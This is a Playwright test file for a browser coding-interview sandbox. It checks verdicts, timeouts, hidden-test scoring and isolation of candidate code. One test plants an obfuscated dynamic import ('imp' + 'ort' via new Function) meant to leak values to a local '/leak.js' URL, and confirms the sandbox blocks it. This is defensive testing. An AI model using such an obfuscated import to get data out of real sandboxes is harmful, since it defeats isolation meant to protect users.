/**
 * Running a coding answer's examples in the browser's sandbox worker (worker/sandbox), as the guest does it:
 * verdicts for right and wrong code, TypeScript stripped, a syntax error explained, an endless loop stopped at the
 * time limit while the page stays usable (Stop works mid-run), and candidate code that finds the network, storage
 * and the reply channel gone, and cannot send a request anywhere even through import(). Then the staff side: the interviewer's device runs the submitted code against the
 * hidden tests and shows the explained result; changed code is run again.
 */
import http from 'node:http';
import { codingScoreKey, readScore } from '../../src/sync/answer-results';
import { test, expect, codingQuestion, consentAndStart, inviteLink, openInvite, passTechCheck, planOf, publishAndInvite, serverSees } from './pages/guest-pages';

test('the guest runs the examples of a coding task in the sandbox', async ({ guestContext, server }) => {
  const id = 'coding-sandbox-1';
  const typed = { ...codingQuestion('q-ts'), language: 'typescript' as const, starterCode: 'function sum(values: number[]): number {\n  return 0;\n}\n' };
  const link = await publishAndInvite(server, planOf(id, [typed]), 'Grace');
  const page = await (await guestContext()).newPage();
  await openInvite(page, link);
  await passTechCheck(page);
  await consentAndStart(page);

  const code = page.getByLabel('Your code');
  const runButton = page.getByRole('button', { name: /^Run examples/ });
  const verdicts = page.getByTestId('test-verdicts');

  // The starter code runs and is wrong.
  await runButton.click();
  await expect(verdicts).toHaveAttribute('data-passed', '0');
  await expect(verdicts).toContainText('0 of 1 example passed.');
  await expect(page.getByTestId('test-verdict')).toContainText('returned 0, expected 6');

  // Right, in TypeScript, with output shown.
  await code.fill('interface Totals { sum: number }\nfunction sum(values: number[]): number {\n  const t: Totals = { sum: values.reduce((a, b) => a + b, 0) };\n  console.log("total", t.sum);\n  return t.sum as number;\n}\n');
  await expect(page.getByTestId('run-status')).toHaveText('The code changed since this run.');
  await runButton.click();
  await expect(verdicts).toHaveAttribute('data-passed', '1');
  await expect(page.getByTestId('test-verdict')).toHaveAttribute('data-state', 'passed');
  await page.getByText('Output (1 line)').click();
  await expect(page.getByTestId('test-verdict')).toContainText('total 6');

  // A syntax error is explained and nothing runs.
  await code.fill('function sum(values: number[] { return 1 }');
  await runButton.click();
  await expect(page.getByRole('alert')).toContainText('The code could not run: the code does not compile');

  // An endless loop is stopped at the time limit, and the cases after it are not run.
  await code.fill('function sum(values: number[]): number {\n  while (true) {}\n}\n');
  await runButton.click();
  await expect(page.getByTestId('test-verdict')).toHaveAttribute('data-state', 'timeout', { timeout: 15_000 });
  await expect(page.getByTestId('test-verdict')).toContainText('still running after 2 s, so it was stopped (an endless loop?)');

  // Mid-run the page answers: Stop ends the run at once.
  await runButton.click();
  await expect(page.getByTestId('run-status')).toHaveText('Running example 1 of 1…');
  await page.getByRole('button', { name: 'Stop' }).click();
  await expect(page.getByTestId('run-status')).toHaveText('');
  await expect(verdicts).toHaveCount(0);

  // The code finds no network, no storage and no way to post a forged result.
  await code.fill(
    'function sum(): string {\n  const g = globalThis as any;\n  const proto = Object.getPrototypeOf(g);\n  return ["fetch", "XMLHttpRequest", "WebSocket", "indexedDB", "caches", "importScripts", "postMessage", "navigator", "Notification"].map((n) => typeof g[n] + typeof proto[n]).join(",");\n}\n',
  );
  await runButton.click();
  await expect(page.getByTestId('test-verdict')).toContainText(`returned ${JSON.stringify(Array(9).fill('undefinedundefined').join(','))}`);

  // import() cannot be taken away like fetch; the worker's own content security policy stops it sending anything.
  const requests: string[] = [];
  const outside = http.createServer((req, res) => {
    requests.push(req.url ?? '');
    res.end('export default 1;');
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  try {
    const url = `http://127.0.0.1:${(outside.address() as { port: number }).port}/leak.js?args=`;
    await code.fill(`async function sum(values: number[]) {\n  const load = new Function('u', 'return imp' + 'ort(u)');\n  try { await load(${JSON.stringify(url)} + values.join('-')); return 'sent'; } catch (e) { return String(e); }\n}\n`);
    await runButton.click();
    await expect(page.getByTestId('test-verdict')).toContainText('Failed to fetch dynamically imported module');
    // The verdict arrives after the attempt failed: a request that had left would be here by now.
    expect(requests).toEqual([]);
  } finally {
    outside.close();
  }

  // Running changes nothing that is submitted; submitting still works.
  await code.fill('function sum(values: number[]): number {\n  return values.reduce((a, b) => a + b, 0);\n}\n');
  await page.getByRole('button', { name: 'Submit code' }).press('Enter');
  await expect(page.getByText('Code submitted.')).toBeVisible();
  // The disabled button lost the focus: the confirmation has it, and Tab goes on to the next step.
  await expect(page.getByText('Code submitted.')).toBeFocused();
});

test('the interviewer’s device runs submitted code against the hidden tests and explains the result', async ({ guestContext, server }) => {
  const id = 'coding-sandbox-staff';
  const link = await publishAndInvite(server, planOf(id, [codingQuestion('q-code')]), 'Barbara');
  const guest = await (await guestContext()).newPage();
  await openInvite(guest, link);
  await passTechCheck(guest);
  await consentAndStart(guest);
  const code = guest.getByLabel('Your code');
  // Right for the example and one hidden test, wrong for the empty list.
  await code.fill('function sum(values) {\n  return values.length ? values.reduce((a, b) => a + b) : null;\n}\n');
  await guest.getByRole('button', { name: 'Submit code' }).click();
  await expect(guest.getByText('Code submitted.')).toBeVisible();

  const interviewer = await (await guestContext()).newPage();
  await interviewer.goto(await inviteLink(server, id, 'interviewer', 'Ivy Interviewer'));
  const result = interviewer.getByTestId('answer-results').locator('[data-question-id="q-code"]').getByTestId('ai-coding-score');
  await expect(result).toHaveAttribute('data-passed', '2', { timeout: 30_000 });
  await expect(result).toContainText('Tests passed: 2 of 3 (1 of 1 examples, 1 of 2 hidden) · score 3.3 / 5');
  await expect(result.getByTestId('ai-coding-explanation')).toHaveText('Passed 2 of 3 tests (1 of 1 examples, 1 of 2 hidden). hidden test 1 returned null instead of 0.');
  await result.getByText('Every test (3)').click();
  await expect(result.getByTestId('test-verdict').nth(1)).toContainText('Hidden test 1: Failed');
  await expect(result.getByTestId('test-verdict').nth(1)).toContainText('returned null, expected 0');
  await serverSees(server, `${id}.assessment`, (d) => readScore(d, codingScoreKey('q-code'))?.kind === 'coding', 'the coding score');

  // The guest fixes the code: it is run again.
  await code.fill('function sum(values) {\n  return values.reduce((a, b) => a + b, 0);\n}\n');
  await guest.getByRole('button', { name: 'Submit changes' }).click();
  await expect(result).toHaveAttribute('data-passed', '3', { timeout: 30_000 });
  await expect(result).toContainText('score 5.0 / 5');
  // The guest never receives the hidden tests, nor the staff's results.
  const guestDbs = await guest.evaluate(async () => (await indexedDB.databases()).map((d) => d.name ?? ''));
  expect(guestDbs.some((n) => n.endsWith('.assessment') || n.endsWith('.key'))).toBe(false);
});
